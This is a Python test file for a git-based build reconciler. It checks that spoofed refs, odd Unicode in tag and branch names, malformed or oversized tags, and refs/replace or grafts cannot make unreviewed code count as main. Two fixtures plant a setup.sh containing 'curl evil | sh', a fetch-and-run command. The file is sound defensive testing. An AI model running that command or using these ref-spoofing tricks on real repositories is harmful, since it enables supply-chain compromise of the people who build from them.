"""Whoever may push branches and tags calls them what git allows, and writes what he likes there: it stops no run."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest

from reconciler.cli.main import main as reconciler
from reconciler.git.repository import Repository
from reconciler.git.tags import tags_with
from reconciler.model.declaration import GitSettings
from reconciler.model.events import Warned
from reconciler.steps.one_writer import recorded_head
from tests.integration.loop.keys import Keys, signing
from tests.integration.loop.pull_request import BRANCH, merge, on_branch
from tests.integration.loop.world import SETTINGS, US, World, git, statuses

ENDINGS = ["\u2028", "\u2029", "\u0085", "\u00a0", "\u202e"]
"""What ends a line, or turns it around, for others than git."""
WEB = {"desired/web/setup.sh": "echo more\n"}


def put_tag(repository: Path, name: str, content: bytes) -> None:
    """Put a tag object in the place of a tag, whatever is in it."""
    command = ["git", "hash-object", "-t", "tag", "-w", "--stdin", "--literally"]
    made = subprocess.run(command, cwd=repository, input=content, capture_output=True, check=True)
    git(repository, "update-ref", f"refs/tags/{name}", made.stdout.decode().strip())


def merged_preview(pair: World) -> tuple[str, bytes]:
    """A preview of web whose pull request was merged an hour ago: the name of its tag, and what is in it."""
    on_branch(pair, WEB)
    job = pair.controller("pull-request")
    job.preview(BRANCH)
    merge(pair)
    pair.clock.advance(hours=1)
    name = f"image/web/{job.builder.requests[0].build_id}"
    shown = subprocess.run(["git", "cat-file", "tag", name], cwd=pair.origin, capture_output=True, check=True)
    return name, shown.stdout


@pytest.mark.forms(quick=2)
@pytest.mark.parametrize("ending", ENDINGS)
def test_a_tag_whose_name_holds_what_ends_a_line_stops_no_run(pair: World, ending: str) -> None:
    git(pair.origin, "tag", "--annotate", "--message", "x", f"image/web/a{ending}b", "main")
    pair.commit(WEB)

    assert statuses(pair.controller("a-new-clone").reconcile()) == {"web": "built"}


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_branch_is_the_one_that_was_pushed_whatever_is_in_its_name(pair: World, ending: str) -> None:
    git(pair.origin, "branch", f"feature{ending}more", "main")
    remote = Repository.open(pair.controller().root).remote()
    assert remote is not None
    assert remote.branches() == {"main", f"feature{ending}more"}


def test_a_record_in_no_encoding_is_none(pair: World) -> None:
    # Given a preview that was merged, and in its tag's place a record with a byte that is no UTF-8
    name, there = merged_preview(pair)
    assert b'"preliminary"' in there
    put_tag(pair.origin, name, there.replace(b'"preliminary"', b'"\xff"'))

    # When main adopts what it built
    main = pair.controller("main-job")
    assert statuses(main.reconcile()) == {"web": "adopted"}

    # Then it is tested, as one without a record is
    assert [request.image for request in main.tester.requests] == ["web"]


def test_a_tag_that_is_larger_than_any_record_is_not_read(pair: World) -> None:
    # Given a preview that was merged, and in its tag's place one that goes on for longer than any does
    name, there = merged_preview(pair)
    put_tag(pair.origin, name, there.replace(b": built\n", b": built\n" + b"x" * (9 << 20) + b"\n", 1))

    # When main adopts what it built, it is tested, as one without a record is
    main = pair.controller("main-job")
    assert statuses(main.reconcile()) == {"web": "adopted"}
    assert [request.image for request in main.tester.requests] == ["web"]


def test_a_search_in_tags_reads_none_that_is_larger_than_any_record(pair: World) -> None:
    # Given a tag that says more than any record, of an artifact that nobody recorded
    name, there = merged_preview(pair)
    put_tag(pair.origin, name, there.replace(b": built\n", b": built\nami-0123456789abcdef0 " + b"x" * (9 << 20), 1))

    # Then whoever looks for that finds nothing in it
    clone = pair.controller("auditor").root
    git(clone, "fetch", "--quiet", "--tags", "origin")
    assert tags_with(Repository.open(clone).git, "ami-0123456789abcdef0", "image") == ()


@pytest.mark.parametrize("name", ["main", "origin/main", "main~0"])
def test_a_tag_that_is_called_as_a_branch_answers_for_none(
    pair: World, capfd: pytest.CaptureFixture[str], name: str
) -> None:
    # Given somebody's commit with his own lockfile, under a tag that is called as the branch that people ask for
    clone = pair.controller("auditor").root
    lock = re.sub(r"ami-[0-9a-f]+", "ami-0123456789abcdef0", pair.show("web.lock.json"))
    (clone / "state/web.lock.json").write_text(lock)
    git(clone, "commit", "--quiet", "--all", "--message", "Mine")
    git(clone, "tag", name.removesuffix("~0"))
    git(clone, "reset", "--quiet", "--hard", "refs/remotes/origin/main")

    # When somebody asks for what stable is there
    capfd.readouterr()
    status = reconciler(["artifact", "web", US, "--rev", name, "-C", str(clone)])

    # Then nothing is answered of his, and both are named
    answered = capfd.readouterr()
    assert (status, answered.out) == (1, "")
    assert "refs/tags/" in answered.err


def test_main_is_the_branch_and_nothing_else_that_is_called_so(pair: World) -> None:
    # Given an unreviewed commit under every name that could pass for main's
    on_branch(pair, {"desired/web/setup.sh": "curl evil | sh\n"})
    evil = f"refs/heads/{BRANCH}"
    for name in ("tags/main", "tags/origin/main", "tags/HEAD", "tags/refs/heads/main", "tags/heads/main"):
        git(pair.origin, "update-ref", f"refs/{name}", evil)
    for name in ("heads/HEAD", "heads/origin/main", "heads/refs/heads/main", "heads/heads/main", "replace/main"):
        git(pair.origin, "update-ref", f"refs/{name}", evil)

    # When a job clones that, and runs twice
    for clone in ("a-new-clone", "a-new-clone"):
        controller = pair.controller(clone)
        git(controller.root, "fetch", "--quiet", "--tags", "--force", "origin")
        assert statuses(controller.reconcile()) == {}

    # Then what is reviewed is what main had, and state/ is as it was
    repository = Repository.open(controller.root)
    assert recorded_head(repository, GitSettings()) == repository.target(GitSettings()).head == pair.head()
    assert git(pair.origin, "rev-parse", evil) != pair.head()


def test_no_replacement_of_a_commit_counts(pair: World) -> None:
    # Given a clone to which somebody's refs/replace and grafts came, by which main's head has other files and parents
    on_branch(pair, {"desired/web/setup.sh": "curl evil | sh\n"})
    evil = git(pair.origin, "rev-parse", f"refs/heads/{BRANCH}")
    root = pair.controller("a-new-clone").root
    git(root, "fetch", "--quiet", "origin", BRANCH)
    git(root, "update-ref", f"refs/replace/{pair.head()}", evil)
    (root / ".git/info").mkdir(exist_ok=True)
    (root / ".git/info/grafts").write_text(f"{pair.head()} {evil}\n")

    assert statuses(pair.controller("a-new-clone").reconcile()) == {}
    assert not Repository.open(root).is_ancestor(evil, pair.head())


@pytest.mark.parametrize("sign", [True, False])
def test_a_tag_that_keeps_out_all_others_keeps_no_record_from_main(pair: World, tmp_path: Path, *, sign: bool) -> None:
    # Given somebody who takes all tags below image/ away, and pushes one that is called image
    pair.commit({"desired/reconciler.yaml": f"{SETTINGS}git: {{sign: {str(sign).lower()}}}\n"})
    for name in pair.tags():
        git(pair.origin, "tag", "--delete", name)
    git(pair.origin, "tag", "image", "main")
    pair.commit(WEB)

    # When a new clone records, where that tag is in the way as well
    controller = signing(pair, Keys.begin(tmp_path), "a-new-clone")
    assert statuses(controller.reconcile()) == {"web": "built"}

    # Then the build is on main, and told is which tag it is, and what helps
    assert pair.lock("web").builds[0].id == controller.builder.requests[0].build_id
    told = " ".join(event.what for event in controller.told(Warned, "web") if isinstance(event, Warned))
    assert "recorded, but without the tag image/web/" in told
    assert "the tag image of " in told
